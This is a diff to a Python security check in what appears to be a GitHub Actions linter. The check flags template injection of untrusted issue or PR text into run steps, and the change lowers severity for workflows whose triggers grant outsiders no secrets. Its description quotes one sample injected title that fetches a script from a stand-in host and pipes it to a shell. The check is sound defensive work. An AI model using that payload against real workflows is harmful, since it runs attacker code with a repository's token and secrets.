@@ -5,7 +5,7 @@ from __future__ import annotations
 from collections.abc import Iterator
 
 from ..api import Category, Check, Finding, Severity
-from ..models.workflow import Workflow, untrusted_contexts
+from ..models.workflow import FORK_READ_ONLY_EVENTS, Workflow, untrusted_contexts
 
 CHECK = Check(
     code="GHA007",
@@ -18,7 +18,9 @@ CHECK = Check(
         "An issue title, a PR body, a branch name or a commit message is written by whoever "
         "opens the issue or the fork, so a title like `\"; curl evil.sh | sh; #` becomes a "
         "command that runs with the job's token and secrets. Quoting does not help: the "
-        "attacker controls the quotes too."
+        "attacker controls the quotes too. Medium when only pull_request events (a fork's run "
+        "gets a read-only token and no secrets), a schedule or a maintainer start the workflow: "
+        "the pattern is the same, but what it runs gains nothing its author could not already do."
     ),
     remediation=(
         "Pass the value through an environment variable: `env: TITLE: ${{ github.event.issue.title }}`.",
@@ -34,8 +36,17 @@ CHECK = Check(
 )
 
 
+#: events that fill none of the outsider contexts: a schedule, a maintainer's dispatch
+_NO_OUTSIDER_TEXT = frozenset(("schedule", "workflow_dispatch"))
+
+
 @CHECK.on(Workflow)
 def template_injection(wf: Workflow) -> Iterator[Finding]:
+    triggers = wf.triggers
+    unprivileged = bool(triggers) and triggers <= FORK_READ_ONLY_EVENTS | _NO_OUTSIDER_TEXT
+    severity = Severity.MEDIUM if unprivileged else Severity.HIGH
+    why = (f"; the workflow runs only on {', '.join(sorted(triggers))}: a fork's pull request gets a read-only "
+           "token and no secrets there" if unprivileged else "")
     seen: set[int] = set()  # a step shared by several jobs through a YAML anchor is reported once
     for job in wf.jobs:
         for step in job.steps:
@@ -58,7 +69,7 @@ def template_injection(wf: Workflow) -> Iterator[Finding]:
                          for c in found]
                 shown = ", ".join(named[:3]) + (" ..." if len(named) > 3 else "")
                 yield CHECK.finding(
-                    node, key, resource=step.resource,
-                    message=f"{step.label} of {job.label} expands {shown} into its {what}",
+                    node, key, resource=step.resource, severity=severity,
+                    message=f"{step.label} of {job.label} expands {shown} into its {what}{why}",
                     evidence="; ".join(f"${{{{ {c} }}}}" for c in found[:3]),
                 )
